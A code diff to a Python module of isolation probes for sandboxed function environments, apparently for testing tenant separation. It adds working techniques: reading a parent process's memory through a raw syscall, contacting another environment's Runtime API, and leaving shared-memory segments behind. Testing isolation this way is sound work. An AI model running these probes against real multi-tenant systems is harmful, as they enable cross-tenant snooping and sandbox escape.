@@ -5,6 +5,7 @@ An attack returns (any text) when it got what it wanted and raises `OSError` whe
 
 import contextlib
 import ctypes
+import errno
 import os
 import pathlib
 import platform
@@ -92,13 +93,22 @@ def trace(pid):
 
 
 def copy_zygote_memory(_event):
+    try:
+        return copy_memory(os.getppid(), "self")  # a fork has the same layout
+    except OSError as error:
+        if error.errno != errno.EFAULT:
+            raise
+        return copy_memory(os.getppid(), os.getppid())
+
+
+def copy_memory(pid, like):
     buffer = ctypes.create_string_buffer(8)
-    maps = pathlib.Path("/proc/self/maps").read_text().splitlines()  # a fork has the same layout
+    maps = pathlib.Path(f"/proc/{like}/maps").read_text().splitlines()
     start = next(int(line.split("-")[0], 16) for line in maps if " rw-p " in line)
     here = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 8)
     there = (ctypes.c_ulong * 2)(start, 8)
     pointers = [ctypes.c_void_p(ctypes.addressof(vector)) for vector in (here, there)]
-    return call(310, 270, os.getppid(), pointers[0], 1, pointers[1], 1, 0)
+    return call(310, 270, pid, pointers[0], 1, pointers[1], 1, 0)
 
 
 def steal_descriptor(pid):
@@ -182,6 +192,18 @@ def greeted(address, family=socket.AF_INET):
     return "welcome"
 
 
+def speak_for(event):
+    """Ask for the other environment's event, at its own listener."""
+    host, port = event["victim_api"].split(":")
+    with socket.create_connection((host, int(port)), 5) as connection:
+        connection.settimeout(5)
+        connection.sendall(b"GET /2018-06-01/ping HTTP/1.1\r\nHost: x\r\n\r\n")
+        answer = connection.recv(100)
+        if not answer.startswith(b"HTTP/1.1 200"):
+            raise Refused("closed without a word")
+    return answer
+
+
 def use_shared_memory(event):
     segment = LIBC.shmget(event["segment"], 64, 0)
     if segment < 0:
@@ -192,6 +214,12 @@ def use_shared_memory(event):
         raise OSError(ctypes.get_errno(), "shmat")
     LIBC.shmdt(ctypes.c_void_p(address))
     return segment
+
+
+def leave_shared_memory(event):
+    """Who looks for it when this function is gone says whether it worked."""
+    if LIBC.shmget(event["left_segment"], 64, IPC_CREATE | 0o666) < 0:
+        raise OSError(ctypes.get_errno(), "shmget")
 
 
 def find_descriptors(event):
@@ -246,5 +274,7 @@ ATTACKS = {
     "call an abstract socket": lambda e: greeted("\0" + e["abstract"], socket.AF_UNIX),
     "call a socket in the file system": lambda e: greeted(e["unix"], socket.AF_UNIX),
     "use System V shared memory": use_shared_memory,
+    "leave System V shared memory behind": leave_shared_memory,
     "find inherited descriptors": find_descriptors,
+    "speak at another's Runtime API": speak_for,
 }
